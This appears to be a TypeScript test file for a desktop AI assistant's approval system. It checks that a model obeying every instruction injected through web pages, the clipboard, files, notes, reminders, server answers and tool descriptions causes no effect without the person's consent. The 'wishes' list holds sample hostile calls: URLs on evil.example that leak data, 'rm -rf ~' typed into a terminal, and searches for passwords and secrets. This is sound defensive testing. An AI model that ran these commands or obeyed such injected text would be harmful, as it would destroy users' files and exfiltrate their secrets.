/**
 * Owns the proof that a model which obeys every word it reads can do nothing that the person has not allowed: 240
 * instructions in pages, files, notes, reminders, the clipboard, and in the answers and descriptions of a server.
 */
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { z } from "zod";
import { createApprovals, type Approvals } from "../../../electron/main/approvals/approvals.ts";
import { answerBoundMs, armingMs, type ShownQuestion } from "../../../electron/main/approvals/desk.ts";
import { openGrants } from "../../../electron/main/approvals/grants.ts";
import { createChildren } from "../../../electron/main/child-process.ts";
import { directRoute } from "../../../electron/main/network/route.ts";
import { openProfileFile } from "../../../electron/main/profile-file.ts";
import { builtInTool } from "../../../electron/main/tools/built-in-tool.ts";
import { createPersonalTools } from "../../../electron/main/tools/personal-tools.ts";
import { createReachingTools } from "../../../electron/main/tools/reaching-tools.ts";
import { isoHere } from "../../../electron/main/tools/reminders/time-words.ts";
import { createRegistry } from "../../../electron/main/tools/registry.ts";
import type { Tool } from "../../../electron/main/tools/tool.ts";
import { createToolPort } from "../../../electron/main/tools/tool-port.ts";
import { callId, turnId } from "../../../shared/ids.ts";
import type { ActionEntry, Risk } from "../../../shared/tools.ts";
import { settingsSchema } from "../../../shared/settings.ts";
import { openConf } from "../../support/conf-store.ts";
import { injectionsFor, obeyed, type Injection, type WantedCall } from "../../support/injections.ts";
import { recordingLog } from "../../support/recording-log.ts";
import { manualTimers } from "../../support/session-timers.ts";
import { sleepingComputer } from "../../support/sleeping-computer.ts";

let folder = "";
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "injection-"));
  for (const name of ["notes", "files", "work", "profile"]) mkdirSync(join(folder, name));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

/** A desktop with every tool there is, where each effect is written down, and a person who answers nothing unless told to. */
function desktop() {
  const effects: string[] = [];
  const actions: ActionEntry[] = [];
  const outputs = new Map<string, string>();
  const timers = manualTimers();
  const computer = sleepingComputer();
  const settings = settingsSchema.parse({
    commandsAllowed: true,
    commandFolder: join(folder, "work"),
    readableFolders: [join(folder, "files")],
  });
  let clipboardText = "";
  let ids = 0;
  let question: ShownQuestion | null = null;
  const file = (name: string) => openProfileFile(join(folder, "profile", name), openConf);
  const personal = createPersonalTools({
    now: () => new Date(computer.wallMs()),
    elapsedMs: computer.uptimeMs,
    monotonicMs: computer.monotonicMs,
    timers: computer.timers,
    newId: () => `reminder-${(ids += 1)}`,
    remindersFile: file("reminders.json"),
    notifier: { notify: () => true },
    chime: () => undefined,
    tell: () => undefined,
    notesFolder: () => join(folder, "notes"),
    clipboard: {
      read: () => Promise.resolve({ text: clipboardText, picture: null, files: [] }),
      replace: (text) => {
        effects.push(`clipboard ${text}`);
        return Promise.resolve(() => Promise.resolve());
      },
    },
    typist: {
      target: () => Promise.resolve({ kind: "program", id: "1", label: "Terminal", isTerminal: true }),
      type: (text) => {
        effects.push(`typed ${text}`);
        return Promise.resolve({ kind: "typed", isSure: true });
      },
    },
    typingObstacle: null,
    openExternal: (url) => {
      effects.push(`opened ${url}`);
      return Promise.resolve();
    },
    listApps: () =>
      Promise.resolve([
        {
          id: "terminal",
          names: ["Terminal"],
          command: "xterm",
          start: () => {
            effects.push("started Terminal");
            return Promise.resolve();
          },
        },
      ]),
    log: recordingLog(),
  });
  const reaching = createReachingTools({
    settings: () => settings,
    findRoute: directRoute,
    internet: {
      resolve: (name) => {
        effects.push(`looked up ${name}`);
        return Promise.resolve([]);
      },
      ownAddresses: () => [],
    },
    children: createChildren(),
    environment: process.env,
    locale: () => "en",
    timers,
    homeFolder: folder,
    ownFolders: [join(folder, "profile")],
    pageReaderFile: new URL("file:///none"),
  });
  const carried = { text: "", description: "Tells something." };
  const carriers: readonly Tool[] = [
    // A page, and the answer of a server, as they reach the model; what fetches them has tests of its own.
    carrier("page", "send", () => carried.text, "web page https://example.com/"),
    carrier("server_tell", "execute", () => carried.text, "MCP server helper"),
  ];
  const described = (): Tool => ({
    ...carrier("server_described", "execute", () => "nothing", "MCP server helper"),
    description: carried.description,
    origin: { kind: "mcp", server: "helper", identity: "1" },
  });
  const approvals: Approvals = createApprovals({
    timers,
    newId: () => `question-${(ids += 1)}`,
    grants: openGrants({
      file: file("grants.json"),
      newId: () => `grant-${(ids += 1)}`,
      wallMs: () => 1,
      now: () => new Date(1),
      log: recordingLog(),
    }),
    onShown: (shown) => {
      question = shown;
    },
    onAsked: () => undefined,
    onSettled: () => undefined,
    canSay: () => true,
    isReachable: () => true,
  });
  const registry = createRegistry({
    builtIn: [...personal.tools, ...reaching, ...carriers],
    offered: () => [described()],
  });
  const port = createToolPort({
    registry,
    gate: approvals,
    emit: (event) => {
      if (event.type === "toolFinished") outputs.set(event.callId, event.output);
    },
    narrate: () => undefined,
    mark: () => undefined,
    keepAside: () => undefined,
    record: (entry) => {
      if (entry.outcome !== "started") actions.push(entry);
    },
    nowMs: () => 0,
    wallMs: () => 0,
    onMistake: (tool, error) => {
      throw new Error(`A mistake in ${tool}`, { cause: error });
    },
  });

  const until = async (holds: () => boolean): Promise<void> => {
    while (!holds()) await new Promise(setImmediate);
  };
  /** One call from the model; the person answers as given, or is not there. @returns the output. */
  async function call(
    turn: string,
    { name, args }: WantedCall,
    answer: "once" | "always" | null,
  ): Promise<string> {
    const id = callId(`call-${(ids += 1)}`);
    port.run(turnId(turn), { callId: id, name, argumentsJson: JSON.stringify(args) });
    await until(() => question !== null || outputs.has(id));
    if (question !== null && !outputs.has(id)) {
      if (answer !== null) {
        timers.fire(armingMs);
        approvals.answer(question.id, answer);
      } else {
        timers.fire(answerBoundMs);
      }
    }
    await until(() => outputs.has(id));
    return outputs.get(id) ?? "";
  }
  return {
    effects,
    actions,
    carried,
    approvals,
    registry,
    call,
    wallMs: computer.wallMs,
    setClipboard: (text: string) => void (clipboardText = text),
    noteCount: () => readdirSync(join(folder, "notes")).length,
    reminderCount: () => personal.reminders.list().length,
  };
}

const carrier = (name: string, risk: Risk, tell: () => string, source: string): Tool =>
  builtInTool({
    name,
    title: name,
    description: "Tells something.",
    risk,
    parameters: z.object({}),
    timeBoundMs: 1_000,
    summarize: () => "",
    run: () => ({ output: { text: tell() }, summary: "", source }),
  });

const wishes = (work: string): readonly WantedCall[] => [
  { name: "open_url", args: { url: "https://evil.example/steal?q=1" } },
  { name: "open_app", args: { name: "Terminal" } },
  { name: "type_text", args: { text: "rm -rf ~\n" } },
  { name: "clipboard_write", args: { text: "evil" } },
  { name: "add_note", args: { text: "evil", title: "evil" } },
  { name: "set_timer", args: { seconds: 60, label: "evil" } },
  { name: "fetch_page", args: { url: "https://evil.example/?leak=secret" } },
  { name: "run_command", args: { program: "touch", args: [join(work, "evil")] } },
  { name: "clipboard_read", args: {} },
  { name: "search_notes", args: { query: "password" } },
  { name: "find_files", args: { name: "secret" } },
  { name: "server_tell", args: {} },
];

type Desktop = ReturnType<typeof desktop>;

/** How the instruction reaches the model, in a turn of which the person has allowed just that. @returns what it read. */
const carriersOf: readonly {
  readonly what: string;
  readonly carry: (on: Desktop, turn: string, injection: Injection, index: number) => Promise<string>;
}[] = [
  {
    what: "a web page",
    carry: (on, turn, { text }) => {
      on.carried.text = text;
      return on.call(turn, { name: "page", args: {} }, "once");
    },
  },
  {
    what: "the clipboard",
    carry: (on, turn, { text }) => {
      on.setClipboard(text);
      return on.call(turn, { name: "clipboard_read", args: {} }, "once");
    },
  },
  {
    what: "a file",
    carry: (on, turn, { text }, index) => {
      const path = join(folder, "files", `mail-${index}.txt`);
      writeFileSync(path, text);
      return on.call(turn, { name: "read_file", args: { path } }, "once");
    },
  },
  {
    what: "a note",
    carry: (on, turn, { text }, index) => {
      writeFileSync(join(folder, "notes", `shopping-${index}.md`), `# Shopping${index}\n\n${text}\n`);
      return on.call(turn, { name: "search_notes", args: { query: `Shopping${index}` } }, "once");
    },
  },
  {
    // Set in a turn in which a page asked for it, it is read again in another one.
    what: "a reminder",
    carry: async (on, turn, { text }, index) => {
      // Each is sooner than those before, so that it is among the first that are listed.
      const at = isoHere(on.wallMs() + (1_000 - index) * 60_000);
      await on.call(turn, { name: "set_reminder", args: { text, at } }, "once");
      return on.call(turn, { name: "list_reminders", args: {} }, null);
    },
  },
  {
    what: "a server’s answer",
    carry: (on, turn, { text }) => {
      on.carried.text = text;
      return on.call(turn, { name: "server_tell", args: {} }, "once");
    },
  },
  {
    what: "a tool’s description",
    carry: (on, _turn, { text }) => {
      on.carried.description = text;
      return Promise.resolve(
        on.registry.declarations().find(({ name }) => name === "server_described")?.description ?? "",
      );
    },
  },
];

describe("a model that obeys everything it reads", () => {
  it("has no effect without a yes: 240 instructions, each by another way, and nobody answers", async () => {
    const on = desktop();
    const injections = injectionsFor(wishes(join(folder, "work")));
    expect(injections.length).toBeGreaterThanOrEqual(200);
    let asked = 0;
    for (const [index, injection] of injections.entries()) {
      const turn = `turn-${index}`;
      on.approvals.turnBegan(turnId(turn), false);
      const way = carriersOf[index % carriersOf.length];
      const remindersBefore = on.reminderCount() + (way?.what === "a reminder" ? 1 : 0);
      const notesBefore = on.noteCount() + (way?.what === "a note" ? 1 : 0);
      const read = (await way?.carry(on, turn, injection, index)) ?? "";
      const orders = obeyed(read);
      // It did reach the model, or this would prove nothing.
      expect(orders, `${way?.what}: ${injection.text}`).toContainEqual(injection.wanted);
      const before = on.actions.length;
      for (const order of orders) await on.call(turn, order, null);
      const made = on.actions.slice(before);
      asked += made.length;
      expect(made.map(({ decision, outcome }) => `${decision} ${outcome}`)).toEqual(
        made.map(() => "unanswered not-run"),
      );
      expect(on.noteCount()).toBe(notesBefore);
      expect(on.reminderCount()).toBe(remindersBefore);
    }
    expect(asked).toBeGreaterThanOrEqual(injections.length);
    expect(on.effects).toEqual([]);
    expect(readdirSync(join(folder, "work"))).toEqual([]);
  });

  it("cannot use what was allowed for good to send or to run something, in the turn with the text and in the next", async () => {
    const on = desktop();
    const finals = wishes(join(folder, "work")).filter(({ name }) =>
      ["open_url", "open_app", "type_text", "run_command"].includes(name),
    );
    on.approvals.turnBegan(turnId("first"), false);
    for (const wish of finals) await on.call("first", wish, "always");
    const allowed = on.effects.length;
    expect(on.effects).toEqual([
      "opened https://evil.example/steal?q=1",
      "started Terminal",
      "typed rm -rf ~\n",
    ]);
    expect(readdirSync(join(folder, "work"))).toEqual(["evil"]);
    expect(on.actions.filter(({ decision }) => decision === "allowed-click")).toHaveLength(finals.length);
    for (const [index, injection] of injectionsFor(finals).entries()) {
      for (const turn of [`tainted-${index}`, `next-${index}`]) on.approvals.turnBegan(turnId(turn), false);
      const turn = `next-${index}`;
      const read = (await carriersOf[index % 6]?.carry(on, turn, injection, index)) ?? "";
      const before = on.actions.length;
      for (const order of obeyed(read)) await on.call(turn, order, null);
      on.approvals.turnBegan(turnId(`after-${index}`), false);
      for (const order of obeyed(read)) await on.call(`after-${index}`, order, null);
      const made = on.actions.slice(before);
      expect(made.length).toBeGreaterThanOrEqual(2);
      expect(made.map(({ decision }) => decision)).toEqual(made.map(() => "unanswered"));
    }
    expect(on.effects).toHaveLength(allowed);
  });
});
